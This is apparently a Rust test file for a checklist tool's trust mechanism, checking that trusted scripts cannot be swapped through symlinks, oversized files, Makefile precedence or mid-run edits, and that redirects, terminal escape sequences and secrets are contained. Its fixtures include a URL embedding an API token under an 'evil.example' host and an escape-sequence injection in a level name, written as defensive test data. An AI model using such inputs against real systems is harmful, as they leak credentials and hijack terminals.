//! What trust covers: nothing can be exchanged, hidden or left undecided behind it. The real program on real repositories.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on fails")]

mod probes_support;

use std::fs;
use std::os::unix::fs::symlink;

use probes_support::{Desk, Server};

const SMOKE: &str = r#"check.command = { run = ["./smoke.sh"], stdout.has = 'healthy' }"#;
const EVIL: &str = "#!/bin/sh\necho healthy evil\n";

/// A repository with a script that was trusted.
fn trusted(check: &str) -> Desk {
    let desk = Desk::new(&[("smoke", check)]);
    desk.write("smoke.sh", "#!/bin/sh\necho healthy\n");
    desk.write("lib/probe.sh", "#!/bin/sh\necho healthy\n");
    desk.write("evil.sh", EVIL);
    desk.trust();
    assert_eq!(desk.item("smoke", &[]).0, "pass");
    desk
}

#[test]
fn a_script_cannot_be_exchanged_for_what_cannot_be_compared() {
    type Exchange = fn(&Desk);
    let exchanges: [(&str, Exchange); 5] = [
        ("a link out through the kernel", |desk| {
            symlink("/proc/self/cwd/evil.sh", desk.root().join("smoke.sh")).unwrap();
        }),
        ("a link out and in again", |desk| symlink("../orders/evil.sh", desk.root().join("smoke.sh")).unwrap()),
        ("a link within", |desk| symlink("evil.sh", desk.root().join("smoke.sh")).unwrap()),
        ("more than is read", |desk| {
            desk.write("smoke.sh", EVIL);
            fs::OpenOptions::new().write(true).open(desk.root().join("smoke.sh")).unwrap().set_len(17 << 20).unwrap();
        }),
        ("nothing", |_| {}),
    ];
    for (what, exchange) in exchanges {
        let desk = trusted(SMOKE);
        fs::remove_file(desk.root().join("smoke.sh")).unwrap();
        exchange(&desk);
        let (status, summary) = desk.item("smoke", &[]);
        assert_eq!(status, "pending", "{what}: {summary}");
    }
    // What cannot be compared cannot be trusted either.
    let desk = trusted(SMOKE);
    fs::remove_file(desk.root().join("smoke.sh")).unwrap();
    symlink("/proc/self/cwd/evil.sh", desk.root().join("smoke.sh")).unwrap();
    let accepted = desk.run(&["trust", "--accept", &desk.digest()]);
    assert_eq!(accepted.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&accepted.stderr).contains("smoke.sh, which it would run, cannot be read"));
    let refused = desk.run(&["check", "--trust", &desk.digest()]);
    assert_eq!(refused.status.code(), Some(2));
}

#[test]
fn whatever_a_command_names_in_whatever_way_is_covered() {
    for (check, path) in [
        (r#"check.command = { shell = "cd lib && ./probe.sh" }"#, "lib/probe.sh"),
        (r#"check.command = { run = ["bash", "-c", "bash lib/probe.sh"] }"#, "lib/probe.sh"),
        (r#"check.command = { run = ["sh", "../smoke.sh"], folder = "lib" }"#, "smoke.sh"),
        (r#"check.command = { run = ["sh", "/proc/self/cwd/smoke.sh"] }"#, "smoke.sh"),
        (r#"check.command = { run = ["sh", "-e", "smoke.sh"], files = ["lib"] }"#, "lib/probe.sh"),
    ] {
        let desk = trusted(check);
        desk.write(path, "#!/bin/sh\necho healthy, and more\n");
        assert_eq!(desk.item("smoke", &[]).0, "pending", "{check}");
    }
    // A recipe that comes before the one that was trusted.
    let desk = Desk::new(&[("smoke", r#"check.command.run = ["make", "-s", "smoke"]"#)]);
    desk.write("Makefile", "smoke:\n\t@echo healthy\n");
    desk.trust();
    desk.write("GNUmakefile", "smoke:\n\t@echo evil\n");
    assert_eq!(desk.item("smoke", &[]).0, "pending");
}

/// What a run makes itself is no reason to ask again.
#[test]
fn a_report_that_a_command_writes_is_not_its_code() {
    let check = r#"check.command = { run = ["sh", "run.sh", "--out=out/report.xml"], writes = ["out"] }"#;
    let desk = Desk::new(&[("smoke", check)]);
    desk.write("run.sh", "date +%N > out/report.xml\n");
    desk.write("out/README", "Reports of runs.\n");
    desk.trust();
    for _ in 0..3 {
        assert_eq!(desk.item("smoke", &[]).0, "pass");
    }
    assert!(desk.root().join("out/report.xml").exists());
}

#[test]
fn what_changes_while_others_run_does_not_run() {
    // As nobody else sleeps.
    let nap = format!("1.{}", std::process::id());
    let slow = r#"check.command = { shell = "sleep NAP; echo '#!/bin/sh' > work/step; touch work/begun" , writes = ["work"] }"#;
    let mut checks: Vec<(String, String)> =
        (0..4).map(|at| (format!("slow{at}"), slow.replace("begun", &format!("b{at}")).replace("NAP", &nap))).collect();
    checks.push(("last".to_owned(), r#"check.command = { run = ["./last.sh"], writes = ["work"] }"#.to_owned()));
    let desk = Desk::new(&checks.iter().map(|(id, check)| (id.as_str(), check.as_str())).collect::<Vec<_>>());
    desk.write("work/README", "");
    desk.write("last.sh", "#!/bin/sh\necho trusted\n");
    desk.trust();
    let mut program = desk.start(&["check"]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    // Four run at a time, so that the last one still waits when the first have begun.
    while !(0..4).any(|at| desk.root().join(format!("work/b{at}")).exists()) {
        if probes_support::processes_with(&nap) > 0 {
            desk.write("last.sh", "#!/bin/sh\ntouch work/evil\n");
        }
        assert!(std::time::Instant::now() < deadline, "nothing runs");
        std::thread::yield_now();
    }
    program.wait().unwrap();
    assert!(!desk.root().join("work/evil").exists());
}

#[test]
fn a_condition_that_nobody_has_decided_hides_no_gate() {
    let ready = r#"check.file.any = ["README.md"]"#;
    let conditional = "when.command.run = [\"true\"]\ncheck.file.any = [\"docs/RUNBOOK.md\"]";
    let desk = Desk::new(&[("ready", ready), ("runbook", conditional)]);
    desk.write("README.md", "# orders\n");
    let undecided = desk.run(&["check"]);
    assert_eq!(undecided.status.code(), Some(1), "{}", String::from_utf8_lossy(&undecided.stdout));
    assert_eq!(desk.item("runbook", &[]).0, "pending");
    desk.trust();
    assert_eq!(desk.item("runbook", &[]).0, "fail", "the condition is asked, and then the rest");
    // What is asked only where a condition holds that is asked itself.
    let both = "when.command.run = [\"true\"]\ncheck.command = { shell = \"echo healthy\", stdout.has = 'healthy' }";
    let desk = Desk::new(&[("both", both), ("not", &both.replace("\"true\"", "\"false\""))]);
    desk.trust();
    assert_eq!((desk.item("both", &[]).0.as_str(), desk.item("not", &[]).0.as_str()), ("pass", "na"));
    // And of a whole checklist.
    let desk = Desk::new(&[("ready", ready), ("runbook", r#"check.file.any = ["docs/RUNBOOK.md"]"#)]);
    let path = ".gonogo/checklists/service.toml";
    let text = fs::read_to_string(desk.root().join(path)).unwrap();
    desk.write(path, &text.replacen("[[area]]", "when.command.run = [\"true\"]\n[[area]]", 1));
    desk.write("README.md", "# orders\n");
    assert_eq!(desk.item("ready", &[]).0, "pending");
    desk.trust();
    assert_eq!((desk.item("ready", &[]).0.as_str(), desk.item("runbook", &[]).0.as_str()), ("pass", "fail"));
}

#[test]
fn what_a_trusted_server_redirects_changes_nothing_elsewhere() {
    let other = Server::answering("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    let there = format!("http://127.0.0.1:{}", other.port());
    let answer = format!(
        "HTTP/1.1 307 Temporary Redirect\r\nLocation: {there}/orders\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    );
    let server = Server::answering(&answer);
    let check = format!(
        "check.http = {{ url = \"http://127.0.0.1:{}/\", method = \"DELETE\", body = \"all\", redirects = 3 }}",
        server.port()
    );
    let desk = Desk::new(&[("delete", &check)]);
    desk.write_user_config(&format!("addresses = [\"{there}\"]\n"));
    desk.trust();
    assert_eq!((desk.item("delete", &[]).0.as_str(), other.requests()), ("error", 0));
    assert_eq!(server.requests(), 1);
}

#[test]
fn no_name_of_a_level_steers_a_terminal_and_no_message_tells_a_secret() {
    let desk = Desk::new(&[("smoke", r#"check.http.url = "https://${API_TOKEN}.evil.example/""#)]);
    let path = ".gonogo/checklists/service.toml";
    let text = fs::read_to_string(desk.root().join(path)).unwrap();
    desk.write(path, &text.replacen("[[area]]", "levels = [\"demo\\u001b]0;gone\\u0007\"]\n[[area]]", 1));
    for arguments in [&["check"][..], &["check", "--format", "json"], &["lint"], &["trust", "--print"]] {
        let set: &[&str] = if arguments[0] == "check" { &["--set", "API_TOKEN=s3cr3tvalue12345"] } else { &[] };
        let output = desk.run(&[arguments, set].concat());
        let text = [output.stdout, output.stderr].concat();
        assert!(!text.contains(&0x1b) && !text.contains(&0x07), "{arguments:?}");
        assert!(!String::from_utf8_lossy(&text).to_lowercase().contains("s3cr3t"), "{arguments:?}");
    }
}

#[test]
fn who_trusts_is_shown_what_the_variables_stand_for_and_no_secret() {
    let health = r#"check.http = { url = "${BASE_URL}/health", headers = { Authorization = "Bearer ${API_TOKEN}" } }"#;
    let command = r#"check.command = { run = ["make", "smoke"], env = ["REGION", "DEPLOY_KEY"] }"#;
    let desk = Desk::new(&[("health", health), ("smoke", command)]).with("REGION", "eu-1");
    desk.write_user_config(
        "[variables]\nBASE_URL = \"https://ada:s3cr3tpass@orders.example.org\"\nAPI_TOKEN = \"s3cr3\"\n",
    );
    let before = desk.digest();
    for arguments in [&["trust", "--print"][..], &["trust"]] {
        let text = String::from_utf8(desk.run(arguments).stdout).unwrap();
        for line in [
            "${BASE_URL} is ••••, by `[variables]` in your config.toml",
            "${API_TOKEN} is ••••, by `[variables]` in your config.toml",
            "$REGION is eu-1, by your environment",
            "$DEPLOY_KEY is not set: `--set DEPLOY_KEY=…`",
        ] {
            assert!(text.contains(line), "{line}: {text}");
        }
        assert!(!text.contains("s3cr3"), "{text}");
    }
    // The value is the user's: a new one asks nothing again.
    desk.write_user_config("[variables]\nBASE_URL = \"https://orders.example.org\"\n");
    assert_eq!(desk.digest(), before);
    let text = String::from_utf8(desk.run(&["trust"]).stdout).unwrap();
    assert!(text.contains("${BASE_URL} is https://orders.example.org, by") && text.contains("${API_TOKEN} is not set"));
}

/// What asks for much is answered in proportion.
#[test]
fn many_requests_are_looked_at_once_each() {
    let checks: Vec<(String, String)> =
        (0..3000).map(|at| (format!("i{at}"), format!("check.http.url = \"http://127.0.0.1:9/{at}\""))).collect();
    let desk = Desk::new(&checks.iter().map(|(id, check)| (id.as_str(), check.as_str())).collect::<Vec<_>>());
    let printed = String::from_utf8(desk.run(&["trust", "--print"]).stdout).unwrap();
    assert_eq!(printed.lines().filter(|line| line.starts_with("GET http://127.0.0.1:9/")).count(), 3000);
}
